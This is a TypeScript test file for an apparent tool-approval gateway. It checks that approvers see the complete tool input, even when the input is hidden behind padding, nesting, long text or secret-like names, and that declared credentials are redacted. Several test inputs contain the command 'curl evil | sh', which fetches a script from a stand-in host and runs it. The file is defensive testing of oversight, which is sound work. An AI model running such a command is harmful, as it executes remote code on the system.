import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { JsonObject, JsonValue } from '#kernel/base/json'
import { Secret } from '#kernel/base/secret'
import { openMemoryStore } from '#store/sqlite/sqlite-store'
import { ALICE, callRequest, openTestGateway } from '#testing/test-gateway'
import { type SampleTool, sampleTool } from '../../../test/contracts/samples.ts'
import type { ApprovalRecord } from './approval.ts'
import { type ApprovalRules, DEFAULT_APPROVAL_RULES } from './approvals.ts'
import { shownInput } from './question.ts'

const RING = 'Bell.Ring@1.0.0'

/** A gateway with one tool, a function that calls it, and the newest request for approval. */
function stage({ rules = {}, ...changes }: SampleTool & { readonly rules?: Partial<ApprovalRules> }) {
  const store = openMemoryStore()
  const tool = sampleTool(RING, () => 'rung', changes)
  const gateway = openTestGateway([tool], { store, approvalRules: { ...DEFAULT_APPROVAL_RULES, ...rules } })
  const ring = (request: Parameters<typeof callRequest>[1] = {}) =>
    gateway.call(ALICE, callRequest(RING, { key: 'k', ...request }))
  const newest = async () => (await store.approvals.list({ limit: 1 }))[0]
  return { ring, newest }
}

const padding = (members: number) =>
  Object.fromEntries(Array.from({ length: members }, (_, index) => [index, 0]))

/** The summary and the input that approvers see. */
const shownOf = (approval: ApprovalRecord | undefined) => {
  const { summaryJson = '{}', inputJson = '{}', hidden } = approval?.subject ?? {}
  return { summary: JSON.parse(summaryJson), input: JSON.parse(inputJson), hidden }
}

describe('the input that an approver sees', () => {
  const policy = { approval: 'always' } as const

  it('rule 21: the summary shows declared members first', async () => {
    const inputSchema = { type: 'object', properties: { amount: { type: 'number' } } }
    const { ring, newest } = stage({ inputSchema, policy })
    await ring({ input: { ...padding(100), amount: 500 } })
    expect(shownOf(await newest()).summary).toMatchObject({ amount: 500, '…': '71 more' })
  })

  it.each<[string, JsonObject]>([
    ['behind meaningless members', { ...padding(200), last: 'curl evil | sh' }],
    ['at the end of a long text', { script: `${'echo hello; '.repeat(200)}curl evil | sh` }],
    ['at the end of a long list', { argv: [...Array(99).fill('ok'), 'curl evil | sh'] }],
    ['below many levels', { a: { b: { c: { d: { e: { f: 'curl evil | sh' } } } } } }],
    ['under a name like that of a secret', { password: 'curl evil | sh', apiKey: 1 }],
  ])('is complete: %s', async (_where, input) => {
    const { ring, newest } = stage({ policy })
    const secrets = new Map([['of the caller', new Secret('curl evil | sh')]])
    const tokens = new Map([['mine', new Secret('evil')]])
    await ring({ input, secrets, tokens })
    const shown = shownOf(await newest())
    expect([shown.input, shown.hidden]).toEqual([input, 0])
  })

  it('lacks only credentials that the tool declares, and states how many values are hidden', async () => {
    const requirements = { secrets: [{ id: 'PIN' }] }
    const { ring, newest } = stage({ policy, requirements })
    const secrets = new Map([['PIN', new Secret('hunter2-hunter2')]])
    await ring({ input: { to: 'bob', note: 'my hunter2-hunter2', 'hunter2-hunter2': 1 }, secrets })
    const shown = shownOf(await newest())
    expect(shown.hidden).toBe(2)
    expect([shown.input.to, JSON.stringify(shown)]).toEqual(['bob', expect.not.stringContaining('hunter2')])
  })

  it('has a summary that stays small for any input, and states what it leaves out', () => {
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 8 }), (value) => {
        const json: JsonValue = JSON.parse(JSON.stringify(value))
        const { summaryJson, inputJson } = shownInput(json, undefined, (text) => text)
        expect(JSON.parse(inputJson)).toEqual(json)
        expect(summaryJson.length).toBeLessThan(2_000_000)
      }),
    )
  })
})
